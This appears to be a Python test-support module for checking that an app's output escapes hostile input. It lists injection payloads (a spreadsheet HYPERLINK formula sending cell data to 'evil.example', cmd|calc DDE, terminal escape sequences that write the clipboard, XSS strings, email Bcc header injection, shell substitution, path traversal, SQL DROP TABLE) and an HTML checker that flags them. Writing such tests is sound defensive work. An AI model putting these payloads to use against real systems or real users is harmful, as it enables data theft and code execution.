"""Values that want to be more than words, and what may not be seen of them at any door out.

The same values go in everywhere: as names in an address book, as what somebody said or wrote, as
names of files and apps.
"""

from __future__ import annotations

import unicodedata
from html.parser import HTMLParser
from typing import Final
from urllib.parse import urlsplit

#: Stands in every value, so that it can be told that it came through.
SEAL: Final = "厵"
#: Stands where a value begins a line of its own; no line that is shown begins so.
FORGED: Final = "靐"
#: Where one of them would lead, if it led anywhere.
ELSEWHERE: Final = "evil.example"

#: By what they want to be.
VALUES: Final = {
    "a formula": f'=HYPERLINK("http://{ELSEWHERE}/?"&A1,"{SEAL}")',
    "a command of a spreadsheet": f"+cmd|'/C calc'!A0{SEAL}",
    "a difference": f"-1+1+{SEAL}",
    "an old formula": f"@SUM(1+1)*cmd|' /C calc'!A0{SEAL}",
    "a formula behind a tab": f"\t=1+1{SEAL}",
    "a formula behind a line end": f"\r=1+1{SEAL}",
    "a wide formula": f"＝1+1{SEAL}",
    "a formula behind what is unseen": f"\u200b\ufeff=1+1{SEAL}",
    "a second cell": f'{SEAL}",=1+1,"\t=1+1;=1+1',
    "a clear screen": f"\x1b[2J\x1b[H\x1b]0;owned\x07{SEAL}",
    "a link of a terminal": f"\x1b]8;;http://{ELSEWHERE}\x1b\\{SEAL}\x1b]8;;\x1b\\",
    "a clipboard": f"\x1b]52;c;ZXZpbA==\x07{SEAL}",
    "a command in one byte": f"\x9b2J\x9d52;c;ZXZpbA==\x9c{SEAL}",
    "a line written over": f"{SEAL}\x08\x08\x7f\rgood",
    "turned round": f"\u202egnp.exe\u202c\u2066{SEAL}\u2069\u200f\u061c",
    "unseen": f"{SEAL}\u200b\u200d\u2060\u00ad\u3164\U000e0041",
    "several lines": f"{SEAL}\u2028b\u2029c\x85d\x0be\n{FORGED}\r\n{FORGED}\r{FORGED}",
    "a script": f"</bdi></script><script>alert(1)</script>{SEAL}",
    "an image": f"\"'><img src=x onerror=alert(1)>{SEAL}",
    "an address of a script": f"javascript:alert(1)//{SEAL}",
    "an attribute": f"' onmouseover='alert(1)' x=\"{SEAL}",
    "the end of what is quoted": f"]]>--><svg onload=alert(1)>{SEAL}<![CDATA[<!--",
    "a style": f"</style><style>*{{background:url(//{ELSEWHERE})}}</style>{SEAL}",
    "an entity": f"&#x0a;&lt;script&gt;&amp;#0;&nbsp;{SEAL}",
    "more of an address": f"13800000902?body=x&body={SEAL};13800000903,13800000904#:",
    "a header": f"{SEAL}\r\nBcc: all@{ELSEWHERE}\r\n\r\nx",
    "an encoded header": f"=?utf-8?q?=0d=0aBcc:_all=40{ELSEWHERE}?={SEAL}",
    "a template": f"{{{{ 7*7 }}}}{{% raw %}}{{# x #}}{{from}}{{check}}{{0}}{SEAL}",
    "a format": f"%s%n%(x)s ${{HOME}} `id` $(id) {SEAL}",
    "a field": f'{{ INCLUDETEXT "http://{ELSEWHERE}" }}<w:t/>{SEAL}',
    "markup of a drawing": f'#import "x"; $x$ *b* _i_ @cite <l> \\ {SEAL}',
    "a path": f"../../{SEAL}",
    "a device": f"CON:{SEAL}",
    "a query": f"'; DROP TABLE contacts; --{SEAL}",
    "another text": f'""" evil = 1 """ [x] \\u0000 \\{SEAL}',
    "an end of a text": f"{SEAL}\x00x",
    "half a character": f"{SEAL}\ud800x",
    "many marks": f"{SEAL}" + "\u0301" * 600,
    "long": f"{SEAL}" + "长" * 2_000,
}

#: What turns a line round, and what ends one without being `\n`.
_TURNS = frozenset("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


def steering(text: str, *, keeps: str = "\n") -> set[str]:
    """What in the text could steer a terminal, or turn round what is read."""
    return {
        one
        for one in text
        if one not in keeps and (unicodedata.category(one) in ("Cc", "Cs") or one in _TURNS)
    }


#: Attributes that a browser follows or runs, and where our own lead to.
_FOLLOWED = ("href", "src", "action", "formaction", "xlink:href", "data", "srcset", "poster")
_SCHEMES = ("", "sms", "tel", "https", "data")
_ACTIVE = ("iframe", "object", "embed", "base", "applet", "frame", "foreignobject", "animate")
#: They have no end.
_VOID = ("br", "hr", "img", "input", "link", "meta", "source", "wbr")
#: Their text is no text.
_RAW = ("script", "style")


class Page(HTMLParser):
    """A page or a drawing as a browser takes it apart: what is text in it, and what is wrong."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.text = ""
        self.links: list[str] = []
        self.wrong: list[str] = []
        self._within = ""
        self._isolated = 0
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._within = tag
        if tag in _VOID:
            self._within = ""
        else:
            isolates = tag == "bdi" or ("dir", "auto") in attrs
            self._isolated += isolates or self._isolated > 0
        if tag in _ACTIVE:
            self.wrong.append(tag)
        for name, value in attrs:
            self._look_at(tag, name, value or "")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag not in _VOID:
            self.handle_endtag(tag)

    def handle_endtag(self, tag: str) -> None:  # noqa: ARG002 (as the parser calls it)
        self._within = ""
        self._isolated -= self._isolated > 0

    def handle_data(self, data: str) -> None:
        if self._within in _RAW:
            self.wrong += [f"in {self._within}"] * (SEAL in data)
        else:
            self.text += data
        if not self._isolated and not _TURNS.isdisjoint(data):
            self.wrong.append(f"turns in {self._within}: {data[:60]!a}")

    def handle_comment(self, data: str) -> None:
        self.wrong += [f"comment: {data[:40]!a}"] * (SEAL in data)

    def handle_decl(self, decl: str) -> None:
        self.wrong += [decl] * (decl.lower() != "doctype html")

    unknown_decl = handle_pi = handle_comment

    def _look_at(self, tag: str, name: str, value: str) -> None:
        if name.startswith("on") or (name == "style" and SEAL in value):
            self.wrong.append(f"{tag} {name}")
        if name in _FOLLOWED:
            self.links.append(value)
            told = urlsplit(value.strip())
            if told.scheme not in _SCHEMES or ELSEWHERE in told.netloc or value.startswith("//"):
                self.wrong.append(f"{tag} {name}={value[:60]!a}")
